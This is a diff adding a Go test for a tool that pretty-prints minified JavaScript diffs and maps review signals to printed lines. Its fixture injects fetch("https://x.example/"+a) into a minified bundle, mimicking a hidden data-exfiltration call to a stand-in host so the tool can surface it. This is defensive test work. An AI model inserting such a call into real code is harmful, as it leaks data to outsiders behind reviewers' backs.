@@ -1,7 +1,10 @@
 package pretty
 
 import (
+	"context"
+
 	"bytes"
+	"github.com/stagegate/stagegate/internal/diff"
 	"strings"
 	"testing"
 	"unicode"
@@ -159,4 +162,52 @@ func FuzzJS(f *testing.F) {
 			}
 		}
 	})
+}
+
+func TestView(t *testing.T) {
+	old := "!function(){var a=1;function f(b){return b+a}g(f(2));h()}();"
+	new := "!function(){var a=1;function f(b){return b+a}g(f(2));fetch(\"https://x.example/\"+a);h()}();"
+	fd := &diff.FileDiff{Path: "dist/app.min.js", Status: diff.Modified, Minified: true, Old: []byte(old), New: []byte(new)}
+	if !Eligible(fd) {
+		t.Fatal("not eligible")
+	}
+	v, err := Diff(context.Background(), fd, diff.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if v.File.LinesAdded != 1 || v.File.LinesRemoved != 0 || v.File.Status != diff.Modified {
+		t.Fatalf("+%d -%d %s, want one added line", v.File.LinesAdded, v.File.LinesRemoved, v.File.Status)
+	}
+	var added []string
+	for _, h := range v.File.Hunks {
+		for _, l := range h.Lines {
+			if l.Kind == diff.Add {
+				added = append(added, l.Text)
+			}
+		}
+	}
+	if want := `  fetch("https://x.example/"+a);`; len(added) != 1 || added[0] != want {
+		t.Fatalf("added %q, want %q", added, want)
+	}
+	// A signal on raw line 1 quoting the fetch lands on its printed line.
+	hint := `f(2));fetch("https://x.example/"+a);h()}();`
+	if got, want := v.Line(1, false, hint), 7; got != want {
+		t.Errorf("signal line %d, want %d\n%s", got, want, v.New.Data)
+	}
+	if got := v.Line(1, false, ""); got != 1 {
+		t.Errorf("no hint: line %d, want 1", got)
+	}
+	if got := v.Line(1, true, "h()"); got != 7 {
+		t.Errorf("old side: line %d, want 7", got)
+	}
+	for _, fd := range []*diff.FileDiff{
+		{Path: "a.min.js", Minified: false, New: []byte("x")},
+		{Path: "a.min.css", Minified: true, New: []byte("x")},
+		{Path: "a.min.js", Minified: true},
+		{Path: "a.min.js", Minified: true, Binary: true, New: []byte("x")},
+	} {
+		if Eligible(fd) {
+			t.Errorf("%+v eligible", fd)
+		}
+	}
 }
